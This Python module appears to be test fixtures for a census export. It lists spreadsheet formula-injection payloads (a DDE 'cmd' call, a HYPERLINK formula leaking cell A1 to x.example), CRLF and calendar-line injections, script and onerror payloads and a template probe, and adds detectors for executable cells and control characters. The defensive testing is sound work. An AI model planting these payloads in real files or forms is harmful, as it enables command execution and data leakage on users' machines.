"""Formulas and control characters, as somebody would hide them in a census."""

import re
from itertools import product

BEFORE = ("", " ", "\u00a0", "\u200b", "\ufeff", "\u3000", "\t", '"')
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?d="&A1;"Voir")',
)
# Each would break a line, a cell, a calendar's property or a page if it went out raw.
CONTROLS = (
    *(f"Mot{chr(code)}suite" for code in (*range(1, 9), 11, 12, *range(14, 32))),
    *(f"Mot{chr(code)}suite" for code in range(0x7F, 0xA0)),
    *("Mot\u202esuite", "Mot\u2028suite", "Mot\u2066suite", "Mot\ufffesuite"),
)
BREAKING = (
    "Mot\r\nX-INJECTED:1",
    "Mot\nEND:VEVENT",
    'Mot";=1+1',
    "<img src=x onerror=xinjectedx()>",
    "<script>xinjectedx()</script>",
    "{{ 7 * 7 }}xinjectedx",
)
PAYLOADS = (
    *("".join(one) for one in product(BEFORE, SIGNS, FORMULAS)),
    *CONTROLS,
    *BREAKING,
)

# What a spreadsheet passes over before it looks for a formula, and what it takes so.
_PASSED = re.compile(r"^[\s\u200b-\u200f\u2060\ufeff\x00-\x1f\x7f-\x9f]*")
_RUNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_CONTROL = re.compile(
    r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"
)


def is_executable(cell: str) -> bool:
    return _PASSED.sub("", cell).startswith(_RUNS)


def has_control(text: str) -> bool:
    return _CONTROL.search(text) is not None
